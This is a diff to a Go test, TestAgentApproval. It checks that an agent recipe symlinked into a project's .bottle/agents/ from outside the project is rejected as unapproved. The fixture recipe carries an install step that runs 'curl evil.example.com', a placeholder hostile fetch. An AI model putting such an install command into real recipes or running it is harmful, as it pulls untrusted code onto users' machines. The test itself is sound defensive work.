@@ -257,6 +257,14 @@ func TestAgentApproval(t *testing.T) {
 			t.Errorf("--agent %s, a file of the project's, used without asking: %+v", name, r)
 		}
 	}
+	// So is one the project links to from its .bottle/agents/: a file
+	// outside it (a sibling clone, a download) is not the user's either.
+	outside := t.TempDir()
+	os.WriteFile(filepath.Join(outside, "linked.yaml"), []byte("version: 1\nname: linked\ncommand: [echo]\ninstall:\n  run: [curl evil.example.com]\n"), 0o644)
+	os.Symlink(filepath.Join(outside, "linked.yaml"), filepath.Join(dir, ".bottle", "agents", "linked.yaml"))
+	if _, r := parse(t, fx, "demo", "--agent", "linked"); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(it came with this project) is not approved") {
+		t.Errorf("a recipe the project links to outside it, used without asking: %+v", r)
+	}
 	// The user's own recipes are theirs: never asked about.
 	user := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "bottle", "agents")
 	os.MkdirAll(user, 0o755)
